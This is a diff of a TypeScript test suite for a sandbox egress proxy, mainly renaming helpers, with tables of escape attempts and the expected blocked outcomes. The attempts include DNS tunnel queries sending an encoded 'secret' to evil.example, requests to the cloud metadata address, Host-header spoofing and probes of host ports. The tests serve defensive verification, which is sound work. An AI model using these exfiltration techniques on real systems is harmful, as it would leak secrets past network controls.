@@ -1,8 +1,8 @@
 /** Ways out that a guest with RULES tries by honest sockets, and what must come of each. */
 import assert from 'node:assert/strict'
-import { type Attempt, datagram, NO_ANSWER, question, talk } from './attacker.ts'
+import { type Attempt, datagram, dnsQuery, NO_RESPONSE, tcpExchange } from './attacker.ts'
 import { clientHello, inRecords } from './client-hello.ts'
-import { EVIL, NAME_SERVER, PUBLIC_HOST, RULED, run, SHOP, UPLINK, WILD } from './own-machine.ts'
+import { EVIL, NAME_SERVER, PUBLIC_HOST, RULED, runCommand, SHOP, UPLINK, WILD } from './isolated-machine.ts'
 
 export const RULES = [
   'shop.example',
@@ -32,18 +32,18 @@ const HELLO = {
 }
 
 const get = (host: string, target = '/') => `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`
-const http = (to: string, ...parts: string[]) => talk(to, 80, ...parts)
-const https = (to: string, ...parts: Buffer[]) => talk(to, 443, ...parts)
+const http = (to: string, ...parts: string[]) => tcpExchange(to, 80, ...parts)
+const https = (to: string, ...parts: Buffer[]) => tcpExchange(to, 443, ...parts)
 
-export type Row = [tried: string, attempt: Attempt, expected: string | RegExp]
+export type AttemptRow = [tried: string, attempt: Attempt, expected: string | RegExp]
 const OK = (address: string, host: string) => new RegExp(`^HTTP/1.1 200 OK.*${address} as ${host}$`, 's')
 const FORBIDDEN = /^HTTP\/1\.1 403 Forbidden.*egress refused/s
 const ALERT = Buffer.from([21, 3, 3, 0, 2, 2, 112]).toString('latin1')
 
-export const WEB: Row[] = [
+export const WEB: AttemptRow[] = [
   ['HTTP to an allowed host', http(SHOP, get('shop.example')), OK(SHOP, 'shop.example')],
   ['at a forged address', http(EVIL, get('shop.example')), OK(SHOP, 'shop.example')],
-  ['at a forged private address', http('10.9.9.10', get('shop.example')), NO_ANSWER],
+  ['at a forged private address', http('10.9.9.10', get('shop.example')), NO_RESPONSE],
   ['another host at the allowed address', http(SHOP, get('evil.example')), FORBIDDEN],
   ['upper case and a last dot', http(SHOP, get('SHOP.Example.')), OK(SHOP, 'SHOP.Example.')],
   ['an IDN in its xn-- form', http(SHOP, get('xn--bcher-kva.example')), OK(SHOP, 'xn--bcher-kva.example')],
@@ -87,64 +87,71 @@ export const WEB: Row[] = [
   ['a name that leads to both', http(EVIL, get('mixed.example')), OK(SHOP, 'mixed.example')],
 ]
 
-export const ADDRESSES: Row[] = [
-  ['an allowed address', talk(RULED[0], 80), `hello ${UPLINK.address}`],
-  ['an allowed address and port, at another', talk(RULED[1], 9000), NO_ANSWER],
+export const ADDRESSES: AttemptRow[] = [
+  ['an allowed address', tcpExchange(RULED[0], 80), `hello ${UPLINK.address}`],
+  ['an allowed address and port, at another', tcpExchange(RULED[1], 9000), NO_RESPONSE],
   // Port 80 belongs to the proxy, which wants a name.
-  ['the same at port 80', talk(RULED[1], 80, get(RULED[1])), FORBIDDEN],
-  ['an allowed block and port', talk(RULED[2], 80), `hello ${UPLINK.address}`],
-  ['an allowed block, at another port', talk(RULED[2], 9000), NO_ANSWER],
-  ['an address that no rule names', talk(PUBLIC_HOST, 9000), NO_ANSWER],
-  ['a private address in a rule', talk('10.9.9.9', 80), NO_ANSWER],
-  ['one that the operator allows too', talk('172.20.0.1', 80), `hello ${UPLINK.address}`],
-  ['the same at another port', talk('172.20.0.1', 9000), NO_ANSWER],
-  ['the metadata service', talk('169.254.169.254', 80), NO_ANSWER],
+  ['the same at port 80', tcpExchange(RULED[1], 80, get(RULED[1])), FORBIDDEN],
+  ['an allowed block and port', tcpExchange(RULED[2], 80), `hello ${UPLINK.address}`],
+  ['an allowed block, at another port', tcpExchange(RULED[2], 9000), NO_RESPONSE],
+  ['an address that no rule names', tcpExchange(PUBLIC_HOST, 9000), NO_RESPONSE],
+  ['a private address in a rule', tcpExchange('10.9.9.9', 80), NO_RESPONSE],
+  ['one that the operator allows too', tcpExchange('172.20.0.1', 80), `hello ${UPLINK.address}`],
+  ['the same at another port', tcpExchange('172.20.0.1', 9000), NO_RESPONSE],
+  ['the metadata service', tcpExchange('169.254.169.254', 80), NO_RESPONSE],
   ['raw UDP to port 443 of an allowed host', datagram(SHOP, 443, 'quic'), 'sent'],
   ['UDP to an allowed address and port', datagram(RULED[1], 7777, 'ruled'), 'sent'],
   ['UDP to port 443 of an allowed address', datagram(RULED[0], 443, 'quic-ruled'), 'sent'],
   ['UDP to any other', datagram(PUBLIC_HOST, 7777, 'evil'), 'sent'],
 ]
 
-export const NAMES: Row[] = [
-  ['a question for an allowed name', question('shop.example'), `NOERROR ${SHOP}`],
-  ['in upper case', question('SHOP.EXAMPLE'), `NOERROR ${SHOP}`],
-  ['over TCP', question('shop.example', TYPE.A, { overTcp: true }), `NOERROR ${SHOP}`],
-  ['to another name server', question('shop.example', TYPE.A, { server: '198.18.77.77' }), `NOERROR ${SHOP}`],
-  ['its IPv6 address', question('shop.example', TYPE.AAAA), 'NOERROR'],
-  ['its HTTPS record', question('shop.example', TYPE.HTTPS), 'NOERROR'],
-  ['a name that no rule names', question('evil.example'), 'NXDOMAIN'],
-  ['TXT tunnel', question('c2VjcmV0.t1.evil.example', TYPE.TXT), 'NXDOMAIN'],
-  ['TXT tunnel over TCP', question('c2VjcmV0.t2.evil.example', TYPE.TXT, { overTcp: true }), 'NXDOMAIN'],
-  ['TXT tunnel, public server', question('c2VjcmV0.t3.evil.example', TYPE.TXT, { server: NAME_SERVER }), 'NXDOMAIN'],
-  ['TXT tunnel below an allowed host', question('c2VjcmV0.t4.shop.example', TYPE.TXT), 'NXDOMAIN'],
-  ['NULL tunnel', question('c2VjcmV0.t5.evil.example', TYPE.NULL), 'NXDOMAIN'],
-  ['MX tunnel', question('c2VjcmV0.t6.evil.example', TYPE.MX), 'NXDOMAIN'],
-  ['ANY tunnel', question('c2VjcmV0.t7.evil.example', TYPE.ANY), 'NXDOMAIN'],
-  ['the apex of a wildcard', question('wild.example', TYPE.TXT), 'NXDOMAIN'],
-  ['the root', question('example', TYPE.NS), 'NXDOMAIN'],
+export const NAMES: AttemptRow[] = [
+  ['a question for an allowed name', dnsQuery('shop.example'), `NOERROR ${SHOP}`],
+  ['in upper case', dnsQuery('SHOP.EXAMPLE'), `NOERROR ${SHOP}`],
+  ['over TCP', dnsQuery('shop.example', TYPE.A, { overTcp: true }), `NOERROR ${SHOP}`],
+  ['to another name server', dnsQuery('shop.example', TYPE.A, { server: '198.18.77.77' }), `NOERROR ${SHOP}`],
+  ['its IPv6 address', dnsQuery('shop.example', TYPE.AAAA), 'NOERROR'],
+  ['its HTTPS record', dnsQuery('shop.example', TYPE.HTTPS), 'NOERROR'],
+  ['a name that no rule names', dnsQuery('evil.example'), 'NXDOMAIN'],
+  ['TXT tunnel', dnsQuery('c2VjcmV0.t1.evil.example', TYPE.TXT), 'NXDOMAIN'],
+  ['TXT tunnel over TCP', dnsQuery('c2VjcmV0.t2.evil.example', TYPE.TXT, { overTcp: true }), 'NXDOMAIN'],
+  ['TXT tunnel, public server', dnsQuery('c2VjcmV0.t3.evil.example', TYPE.TXT, { server: NAME_SERVER }), 'NXDOMAIN'],
+  ['TXT tunnel below an allowed host', dnsQuery('c2VjcmV0.t4.shop.example', TYPE.TXT), 'NXDOMAIN'],
+  ['NULL tunnel', dnsQuery('c2VjcmV0.t5.evil.example', TYPE.NULL), 'NXDOMAIN'],
+  ['MX tunnel', dnsQuery('c2VjcmV0.t6.evil.example', TYPE.MX), 'NXDOMAIN'],
+  ['ANY tunnel', dnsQuery('c2VjcmV0.t7.evil.example', TYPE.ANY), 'NXDOMAIN'],
+  ['the apex of a wildcard', dnsQuery('wild.example', TYPE.TXT), 'NXDOMAIN'],
+  ['the root', dnsQuery('example', TYPE.NS), 'NXDOMAIN'],
 ]
 
 /** Every port on which anything of this machine listens: of the host it reaches names and the proxy, which judges. */
-export function toThisHost(apiPort: number): Row[] {
-  const listening = [...run('ss -Hltn').matchAll(/ (\S+):(\d+) /g)].map(([, at, port]) => ({ at, port: Number(port) }))
+export function toThisHost(apiPort: number): AttemptRow[] {
+  const listening = [...runCommand('ss -Hltn').matchAll(/ (\S+):(\d+) /g)].map(([, at, port]) => ({
+    at,
+    port: Number(port),
+  }))
   assert.ok(listening.some(({ port }) => port === apiPort))
   const request = get('evil.example')
-  return listening.flatMap(({ at, port }): Row[] => [
-    [`this host, ${UPLINK.address}:${port}`, talk(UPLINK.address, port, request), NO_ANSWER],
-    [`this host, 172.30.0.1:${port}`, talk('172.30.0.1', port, request), NO_ANSWER],
+  return listening.flatMap(({ at, port }): AttemptRow[] => [
+    [`this host, ${UPLINK.address}:${port}`, tcpExchange(UPLINK.address, port, request), NO_RESPONSE],
+    [`this host, 172.30.0.1:${port}`, tcpExchange('172.30.0.1', port, request), NO_RESPONSE],
     [
       `this host, 169.254.1.1:${port}`,
-      talk('169.254.1.1', port, request),
-      at === '169.254.1.1' ? new RegExp(`^(closed|no answer|${ALERT})$|${FORBIDDEN.source}`, 's') : NO_ANSWER,
+      tcpExchange('169.254.1.1', port, request),
+      at === '169.254.1.1' ? new RegExp(`^(closed|no answer|${ALERT})$|${FORBIDDEN.source}`, 's') : NO_RESPONSE,
     ],
   ])
 }
 
-export const toSandbox = (ip: string): Row[] =>
-  [22, 80, 443, 9000].map((port) => [`another sandbox, port ${port}`, talk(ip, port, get('shop.example')), NO_ANSWER])
+export const toSandbox = (ip: string): AttemptRow[] =>
+  [22, 80, 443, 9000].map((port) => [
+    `another sandbox, port ${port}`,
+    tcpExchange(ip, port, get('shop.example')),
+    NO_RESPONSE,
+  ])
 
 /** The row as a line of the table that is printed, and whether it is as it must be. */
-export function judge([tried, , expected]: Row, got: string): { passes: boolean; line: string } {
+export function checkOutcome([tried, , expected]: AttemptRow, got: string): { passes: boolean; line: string } {
   const passes = typeof expected === 'string' ? got === expected : expected.test(got)
   const parts = got.split('\r\n')
   const summary = JSON.stringify(parts.length === 1 ? got : `${parts[0]} … ${parts.at(-1)}`)
